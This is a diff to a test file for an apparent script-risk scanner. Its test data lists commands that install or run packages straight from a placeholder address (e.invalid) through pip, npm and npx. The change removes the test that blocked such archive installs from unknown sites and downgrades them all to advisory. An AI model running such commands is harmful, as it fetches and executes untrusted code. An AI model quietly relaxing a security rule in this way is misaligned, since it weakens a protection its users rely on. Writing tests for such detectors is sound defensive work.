@@ -111,14 +111,10 @@ describe('evasions of issue 36 block; their benign look-alikes do not', () => {
   });
 
   it('installs and runs from an address: an advisory naming it, pinned registry installs nothing', () => {
-    for (const body of ['pip install git+https://e.invalid/r.git']) {
+    for (const body of ['pip install https://e.invalid/pkg.tar.gz', 'pip install git+https://e.invalid/r.git', 'npm install https://e.invalid/pkg.tgz', 'npx https://e.invalid/pkg.tgz', 'python3 -m pip install https://e.invalid/p.whl']) {
       const r = script(body);
       expect(r.findings.filter((f) => f.rule === 'install-from-url').map((f) => f.severity), body).toEqual(['advisory']);
       expect(r.level, body).toBe('advisory');
-    }
-    // A package archive from a site the component never names (here a reserved name, nobody's) is an install from a stranger.
-    for (const body of ['pip install https://e.invalid/pkg.tar.gz', 'npm install https://e.invalid/pkg.tgz', 'npx https://e.invalid/pkg.tgz', 'python3 -m pip install https://e.invalid/p.whl']) {
-      expect(blocking(body), body).toEqual(['install-untrusted']);
     }
     for (const body of ['pip install requests==2.32.3', 'npm install', 'npx -y prettier@3.3.3 --check .']) expect(script(body).findings.filter((f) => f.rule === 'install-from-url'), body).toEqual([]);
     // Run straight from the address, not installed: a download run as code.
